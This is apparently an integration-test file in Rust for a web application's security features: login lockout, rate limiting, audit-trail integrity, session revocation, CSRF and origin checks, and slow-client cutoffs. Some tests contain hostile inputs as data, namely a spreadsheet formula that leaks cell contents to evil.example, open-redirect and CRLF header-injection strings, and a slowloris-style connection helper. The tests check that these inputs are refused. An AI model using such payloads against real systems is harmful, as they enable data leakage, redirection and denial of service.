//! Sign-in throttling and request rate limits.

use crate::helpers::WithLoginCsrf;
use crate::helpers::{spawn_app, spawn_app_with};

fn browser() -> reqwest::Client {
    reqwest::Client::builder().cookie_store(true).redirect(reqwest::redirect::Policy::none()).build().unwrap()
}

#[tokio::test]
async fn five_wrong_passwords_lock_an_account_and_an_unknown_address_alike_and_the_trail_records_them() {
    let app = spawn_app().await;
    let client = browser();
    let post = |email: String, password: String| {
        let request =
            client.post(app.url("/login")).with_login_csrf().form(&[("email", email), ("password", password)]);
        async move { request.send().await.unwrap() }
    };
    let admin = app.admin_email.clone();
    for email in [admin.clone(), "nobody@test.example".to_string()] {
        for _ in 0..5 {
            assert_eq!(post(email.clone(), "wrong".into()).await.status(), 401);
        }
        // Locked now: even the right password is refused, and an unknown address looks the same.
        let res = post(email.clone(), app.admin_password.clone()).await;
        assert_eq!(res.status(), 429, "{email}");
        let retry: i64 = res.headers()["retry-after"].to_str().unwrap().parse().unwrap();
        assert!((1..=900).contains(&retry), "retry after {retry} s");
        assert!(res.text().await.unwrap().contains("Too many failed sign-ins. Try again in 15 minute(s)."));
    }
    let failed = jetson_store::audit::list(&app.state.db, app.org, Some("auth.sign_in_failed"), 50).await.unwrap();
    assert_eq!(failed.len(), 5, "failures of a real account are audited; the lockout's refusals are not failures");
    assert!(failed.iter().all(|e| e.actor == app.admin_email && e.detail == "wrong password"));
    assert!(jetson_store::audit::verify(&app.state.db, app.org).await.unwrap().is_none(), "the chain holds");
}

#[tokio::test]
async fn a_successful_sign_in_is_audited_and_forgets_earlier_failures() {
    let app = spawn_app().await;
    let client = browser();
    for password in ["wrong", "wrong", "wrong", "wrong", app.admin_password.as_str()] {
        client
            .post(app.url("/login"))
            .with_login_csrf()
            .form(&[("email", &app.admin_email), ("password", &password.to_string())])
            .send()
            .await
            .unwrap();
    }
    let events = jetson_store::audit::list(&app.state.db, app.org, Some("auth."), 10).await.unwrap();
    let count = |action: &str| events.iter().filter(|e| e.action == action).count();
    assert_eq!((count("auth.sign_in"), count("auth.sign_in_failed")), (1, 4));
    // Four more failures do not lock: the count began again after the sign-in.
    for _ in 0..4 {
        let res = client
            .post(app.url("/login"))
            .with_login_csrf()
            .form(&[("email", &app.admin_email), ("password", &"wrong".to_string())])
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 401);
    }
}

#[tokio::test]
async fn api_calls_over_the_rate_limit_get_429_with_retry_after_per_token() {
    let app = spawn_app_with(|s| s.rate_limit_per_minute = 3).await;
    for _ in 0..3 {
        assert_eq!(app.get_api("/api/v1/work-items").await.status(), 200);
    }
    let res = app.get_api("/api/v1/work-items").await;
    assert_eq!(res.status(), 429);
    let retry: u64 = res.headers()["retry-after"].to_str().unwrap().parse().unwrap();
    assert!((1..=60).contains(&retry));
    let body: serde_json::Value = res.json().await.unwrap();
    assert_eq!(body["error"]["code"], "rate_limited");
    // Another token has its own budget; webhooks and health checks are not limited.
    let other = app.token_for("viewer@test.example", jetson_domain::Role::Viewer, "read").await;
    let res = app.api.get(app.url("/api/v1/work-items")).bearer_auth(&other).send().await.unwrap();
    assert_eq!(res.status(), 200);
    assert_eq!(app.api.get(app.url("/healthz")).send().await.unwrap().status(), 200);
    // Pages are limited per address.
    for _ in 0..3 {
        browser().get(app.url("/login")).send().await.unwrap();
    }
    assert_eq!(browser().get(app.url("/login")).send().await.unwrap().status(), 429);
}

#[tokio::test]
async fn made_up_authorization_headers_share_their_address_budget_and_leave_no_keys_behind() {
    let app = spawn_app_with(|s| s.rate_limit_per_minute = 5).await;
    let mut statuses = Vec::new();
    for i in 0..1000 {
        let res = app.api.get(app.url("/api/v1/work-items")).bearer_auth(format!("jt_made_up_{i}")).send().await;
        statuses.push(res.unwrap().status().as_u16());
    }
    // The address's budget of five (and whatever of it refilled meanwhile: one every 12 s).
    let answered = statuses.iter().filter(|s| **s == 401).count();
    assert!((5..=10).contains(&answered), "{answered} answered");
    assert_eq!(statuses.iter().filter(|s| **s == 429).count(), 1000 - answered);
    assert_eq!(app.state.rate_limiter.keys(), 1, "one key, the address, not one per header");
    // A real token keeps its own budget.
    assert_eq!(app.get_api("/api/v1/work-items").await.status(), 200);
}

#[tokio::test]
async fn admins_browse_and_export_the_audit_trail_members_cannot_and_a_changed_event_shows() {
    let app = spawn_app().await;
    let client = crate::pages::signed_in(&app).await;
    let html = client.get(app.url("/settings/audit")).send().await.unwrap().text().await.unwrap();
    assert!(html.contains("Chain intact") && html.contains("auth.sign_in"), "the sign-in is listed");
    let csrf = crate::pages::csrf_of(&html);
    let filtered = client.get(app.url("/settings/audit?kind=hold.")).send().await.unwrap().text().await.unwrap();
    assert!(filtered.contains("No events of this kind"));

    let res = client
        .post(app.url("/settings/audit/export"))
        .form(&[("csrf", &csrf), ("format", &"jsonl".into())])
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200);
    assert!(res.headers()["content-disposition"].to_str().unwrap().contains("jetson-audit.jsonl"));
    let lines: Vec<serde_json::Value> =
        res.text().await.unwrap().lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert_eq!(lines.len(), 3, "the test token's creation, the sign-in and the export itself");
    assert_eq!(lines[2]["action"], "audit.export");
    assert_eq!(lines[2]["prev_hash"], lines[1]["hash"], "hashes come along, so a copy can be checked");
    let csv = client
        .post(app.url("/settings/audit/export"))
        .form(&[("csrf", &csrf), ("format", &"csv".into())])
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(csv.starts_with("seq,at,actor_user_id,actor,action,target,detail,prev_hash,hash\n"));
    assert_eq!(csv.lines().count(), 5, "a header and four events");
    let res = client
        .post(app.url("/settings/audit/export"))
        .form(&[("csrf", "wrong"), ("format", "csv")])
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 403);

    // A member sees neither.
    let (member, password) = jetson::services::accounts::create_user(
        &app.state,
        app.org,
        &jetson_domain::Email::parse("member@test.example").unwrap(),
        "Member",
        jetson_domain::Role::Member,
    )
    .await
    .unwrap();
    let _ = member;
    let other = browser();
    other
        .post(app.url("/login"))
        .with_login_csrf()
        .form(&[("email", "member@test.example"), ("password", &password)])
        .send()
        .await
        .unwrap();
    assert_eq!(other.get(app.url("/settings/audit")).send().await.unwrap().status(), 403);

    // Someone edits an event in the database: the page says where the chain breaks.
    let edit = "UPDATE audit_events SET detail = 'nothing happened' WHERE seq = 2 AND action = 'auth.sign_in'";
    match &app.state.db {
        jetson_store::Db::Sqlite(p) => sqlx::query(edit).execute(p).await.map(|_| ()),
        jetson_store::Db::Postgres(p) => sqlx::query(edit).execute(p).await.map(|_| ()),
    }
    .unwrap();
    let html = client.get(app.url("/settings/audit")).send().await.unwrap().text().await.unwrap();
    assert!(html.contains("The chain is broken at event 2: its content was changed."), "{html}");
}

#[tokio::test]
async fn people_see_their_sessions_by_device_and_revoke_one_or_all_others() {
    let app = spawn_app().await;
    let sign_in = |agent: &'static str| {
        let client = reqwest::Client::builder()
            .cookie_store(true)
            .redirect(reqwest::redirect::Policy::none())
            .user_agent(agent)
            .build()
            .unwrap();
        let form = [("email", app.admin_email.clone()), ("password", app.admin_password.clone())];
        let request = client.post(app.url("/login")).with_login_csrf().form(&form);
        async move {
            assert_eq!(request.send().await.unwrap().status(), 303);
            client
        }
    };
    let laptop = sign_in("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/156.0 Safari/537.36").await;
    let phone = sign_in("Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) Version/18.0 Safari/604.1").await;
    let tablet = sign_in("Mozilla/5.0 (Android 15) Gecko/20100101 Firefox/140.0").await;
    let html = laptop.get(app.url("/account/sessions")).send().await.unwrap().text().await.unwrap();
    assert!(html.contains("Chrome on Linux") && html.contains("Safari on iOS") && html.contains("Firefox on Android"));
    assert_eq!(html.matches("this browser").count(), 1);
    let csrf = crate::pages::csrf_of(&html);

    // The laptop revokes the phone: the phone is signed out at its next request.
    let admin = jetson_domain::Email::parse(&app.admin_email).unwrap();
    let admin = jetson_store::users::find_by_email(&app.state.db, &admin).await.unwrap().unwrap().id;
    let listed = jetson_store::sessions::list_for_user(&app.state.db, admin).await.unwrap();
    let phone_session = listed.iter().find(|s| s.user_agent.contains("iPhone")).unwrap().id;
    let res = laptop
        .post(app.url(&format!("/account/sessions/{phone_session}/revoke")))
        .form(&[("csrf", &csrf)])
        .send()
        .await
        .unwrap();
    assert_eq!(res.headers()["location"], "/account/sessions");
    let res = phone.get(app.url("/")).send().await.unwrap();
    assert_eq!(res.headers()["location"], "/login", "the revoked session is gone");
    // Revoking it again, or someone else's, is a 404.
    let again = laptop
        .post(app.url(&format!("/account/sessions/{phone_session}/revoke")))
        .form(&[("csrf", &csrf)])
        .send()
        .await
        .unwrap();
    assert_eq!(again.status(), 404);

    // Everywhere else: the tablet goes, the laptop stays.
    laptop.post(app.url("/account/sessions/revoke-others")).form(&[("csrf", &csrf)]).send().await.unwrap();
    assert_eq!(tablet.get(app.url("/")).send().await.unwrap().headers()["location"], "/login");
    assert_eq!(laptop.get(app.url("/")).send().await.unwrap().status(), 200);
    let forged = laptop.post(app.url("/account/sessions/revoke-others")).form(&[("csrf", "x")]).send().await.unwrap();
    assert_eq!(forged.status(), 403);
}

#[tokio::test]
async fn a_subject_written_as_a_formula_is_text_in_the_organisation_archives_csv() {
    use std::io::Read;
    let app = spawn_app().await;
    let formula = r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#;
    app.import("Ledgerly", &[crate::helpers::conversation("f1", "eve@evil.example", formula, "The export fails.")])
        .await;
    let dir = tempfile::tempdir().unwrap();
    let archive = dir.path().join("org.tar");
    jetson::services::org_archive::export(&app.state, app.org, &archive).await.unwrap();
    let mut tar = tar::Archive::new(std::fs::File::open(&archive).unwrap());
    let mut csv = String::new();
    for entry in tar.entries().unwrap() {
        let mut entry = entry.unwrap();
        if entry.path().unwrap().to_string_lossy() == "conversations.csv" {
            entry.read_to_string(&mut csv).unwrap();
        }
    }
    let subjects: Vec<String> = csv::Reader::from_reader(csv.as_bytes())
        .deserialize::<std::collections::HashMap<String, String>>()
        .map(|r| r.unwrap()["subject"].clone())
        .collect();
    assert_eq!(subjects, [format!("'{formula}")], "a spreadsheet shows it as text: {csv}");
}

#[tokio::test]
async fn signed_in_pages_and_api_answers_are_never_cached_and_assets_are() {
    let app = spawn_app().await;
    let client = crate::pages::signed_in(&app).await;
    let page = client.get(app.url("/")).send().await.unwrap();
    assert_eq!(page.status(), 200);
    assert_eq!(page.headers()["cache-control"], "no-store");
    let api = reqwest::Client::new().get(app.url("/api/v1/work-items")).bearer_auth(&app.token).send().await.unwrap();
    assert_eq!(api.headers()["cache-control"], "no-store");
    let css = client.get(app.url("/assets/app.css")).send().await.unwrap();
    assert_eq!(css.headers()["cache-control"], "public, max-age=3600");
}

#[tokio::test]
async fn a_reclassification_only_returns_to_a_page_of_this_site() {
    let app = spawn_app().await;
    app.import("Ledgerly", &[crate::helpers::conversation("r1", "ann@acme.example", "Export", "The export fails.")])
        .await;
    let all = jetson_store::conversations::Filter { limit: 10, ..Default::default() };
    let id = jetson_store::conversations::list(&app.state.db, app.org, &all).await.unwrap()[0].id;
    let client = crate::pages::signed_in(&app).await;
    let page = client.get(app.url(&format!("/conversations/{id}"))).send().await.unwrap().text().await.unwrap();
    let csrf = crate::pages::csrf_of(&page);
    let url = app.url(&format!("/conversations/{id}/reclassify"));
    for back in
        ["/\\evil.example", "//evil.example", "https://evil.example/", "/messages\u{7}", "/a\r\nSet-Cookie: x=1"]
    {
        let form = [("csrf", csrf.as_str()), ("category", "feature"), ("back", back)];
        let res = client.post(&url).form(&form).send().await.unwrap();
        assert_eq!(res.status(), 400, "{back:?} is refused");
    }
    let form = [("csrf", csrf.as_str()), ("category", "feature"), ("back", "/messages?review=1")];
    let res = client.post(&url).form(&form).send().await.unwrap();
    assert_eq!(res.status(), 303);
    assert_eq!(res.headers()["location"], "/messages?review=1");
}

#[tokio::test]
async fn a_sign_in_posted_from_an_opaque_origin_is_refused() {
    let app = spawn_app().await;
    let form = [("email", app.admin_email.clone()), ("password", app.admin_password.clone())];
    let forged =
        browser().post(app.url("/login")).with_login_csrf().header("origin", "null").form(&form).send().await.unwrap();
    assert_eq!(forged.status(), 403, "a forged sign-in form posts with Origin: null");
    assert!(forged.headers().get("set-cookie").is_none(), "no session was made");
    let ours = browser()
        .post(app.url("/login"))
        .with_login_csrf()
        .header("origin", app.url(""))
        .form(&form)
        .send()
        .await
        .unwrap();
    assert_eq!(ours.status(), 303, "the sign-in page's own form still signs in");
}

/// Fires `n` sign-ins at once; `attempt(i)` gives the i-th one's email, password and address.
async fn sign_ins_at_once(
    app: &crate::helpers::TestApp,
    n: usize,
    attempt: impl Fn(usize) -> (String, String, String),
) -> Vec<u16> {
    let mut all = tokio::task::JoinSet::new();
    for i in 0..n {
        let (email, password, address) = attempt(i);
        let request = browser()
            .post(app.url("/login"))
            .with_login_csrf()
            .header("x-forwarded-for", address)
            .form(&[("email", email), ("password", password)]);
        all.spawn(async move { request.send().await.unwrap().status().as_u16() });
    }
    all.join_all().await
}

#[tokio::test]
async fn three_hundred_wrong_passwords_at_once_check_at_most_five_and_the_right_one_after_is_refused() {
    let app = spawn_app_with(|s| s.behind_proxy = true).await;
    // Each from its own address, so that only the account's limit stands in the way.
    let statuses = sign_ins_at_once(&app, 300, |i| {
        (app.admin_email.clone(), format!("wrong {i}"), format!("10.0.{}.{}", i / 250, i % 250))
    })
    .await;
    let checked = statuses.iter().filter(|s| **s == 401).count();
    let refused = statuses.iter().filter(|s| **s == 429).count();
    assert!(checked <= 5, "{checked} passwords were checked");
    assert_eq!(checked + refused, 300, "every other attempt was refused unchecked: {statuses:?}");
    let failed = jetson_store::audit::list(&app.state.db, app.org, Some("auth.sign_in_failed"), 500).await.unwrap();
    assert!(failed.len() <= 5, "{} failures were checked and recorded", failed.len());
    let right = sign_ins_at_once(&app, 1, |_| (app.admin_email.clone(), app.admin_password.clone(), "10.9.9.9".into()));
    assert_eq!(right.await, vec![429], "the account is locked");
}

#[tokio::test]
async fn sixty_sign_ins_at_once_from_one_address_check_at_most_twenty() {
    let app = spawn_app_with(|s| s.behind_proxy = true).await;
    let statuses =
        sign_ins_at_once(&app, 60, |i| (format!("person{i}@test.example"), "wrong".into(), "10.1.1.1".into())).await;
    let checked = statuses.iter().filter(|s| **s == 401).count();
    assert!(checked <= 20, "{checked} passwords were checked");
    assert_eq!(statuses.iter().filter(|s| **s == 429).count(), 60 - checked, "{statuses:?}");
    let right = sign_ins_at_once(&app, 1, |_| (app.admin_email.clone(), app.admin_password.clone(), "10.1.1.1".into()));
    assert_eq!(right.await, vec![429], "the address is locked");
}

#[tokio::test]
async fn the_sign_in_form_carries_its_own_token_and_a_post_without_it_is_refused() {
    let app = spawn_app().await;
    let credentials = [("email", app.admin_email.as_str()), ("password", app.admin_password.as_str())];
    // From another site (which can neither read nor set our cookie): no token.
    let forged = browser().post(app.url("/login")).form(&credentials).send().await.unwrap();
    assert_eq!(forged.status(), 403);
    assert!(forged.headers().get_all("set-cookie").iter().all(|c| !c.to_str().unwrap().starts_with("jetson_session")));
    assert!(forged.text().await.unwrap().contains("This sign-in form has expired"));
    // A token in the form that is not the one in the cookie: refused too.
    let client = browser();
    let html = client.get(app.url("/login")).send().await.unwrap().text().await.unwrap();
    let token = crate::pages::csrf_of(&html);
    let mut wrong = credentials.to_vec();
    wrong.push(("csrf", "0123456789abcdef0123456789abcdef0123"));
    assert_eq!(client.post(app.url("/login")).form(&wrong).send().await.unwrap().status(), 403);
    // The page's own form: signed in.
    let html = client.get(app.url("/login")).send().await.unwrap().text().await.unwrap();
    let token_again = crate::pages::csrf_of(&html);
    assert_eq!(token, token_again, "the browser keeps its form token while it lasts");
    let mut ours = credentials.to_vec();
    ours.push(("csrf", token.as_str()));
    let res = client.post(app.url("/login")).form(&ours).send().await.unwrap();
    assert_eq!(res.status(), 303);
}

/// Opens `n` connections that start a request and never finish its headers.
async fn slow_clients(app: &crate::helpers::TestApp, n: usize) -> Vec<tokio::net::TcpStream> {
    use tokio::io::AsyncWriteExt;
    let mut slow = Vec::new();
    for _ in 0..n {
        let mut s = tokio::net::TcpStream::connect(app.address.trim_start_matches("http://")).await.unwrap();
        s.write_all(b"GET /healthz HTTP/1.1\r\nHost: jetson\r\nX-Slow: ").await.unwrap();
        slow.push(s);
    }
    slow
}

#[tokio::test]
async fn three_hundred_slow_clients_are_cut_off_and_healthy_requests_are_served_meanwhile() {
    use tokio::io::AsyncReadExt;
    let app = spawn_app_with(|s| s.header_timeout = std::time::Duration::from_secs(1)).await;
    let slow = slow_clients(&app, 300).await;
    for _ in 0..5 {
        assert_eq!(reqwest::get(app.url("/healthz")).await.unwrap().status(), 200, "served while they dawdle");
    }
    // The server hangs up on each of them (the bound only keeps a broken build from hanging here).
    let mut closed = 0;
    for mut s in slow {
        let mut buf = [0u8; 1024];
        let read = tokio::time::timeout(std::time::Duration::from_secs(60), s.read(&mut buf)).await;
        assert!(read.is_ok(), "a slow client was held open");
        closed += 1;
    }
    assert_eq!(closed, 300);
}

#[tokio::test]
async fn connections_over_the_cap_wait_their_turn_instead_of_being_lost() {
    let app = spawn_app_with(|s| {
        s.header_timeout = std::time::Duration::from_secs(1);
        s.max_connections = 20;
    })
    .await;
    let _slow = slow_clients(&app, 20).await;
    // Every slot is taken by a slow client: the next request waits until one is cut off.
    let res = reqwest::Client::new().get(app.url("/healthz")).send().await.unwrap();
    assert_eq!(res.status(), 200);
}
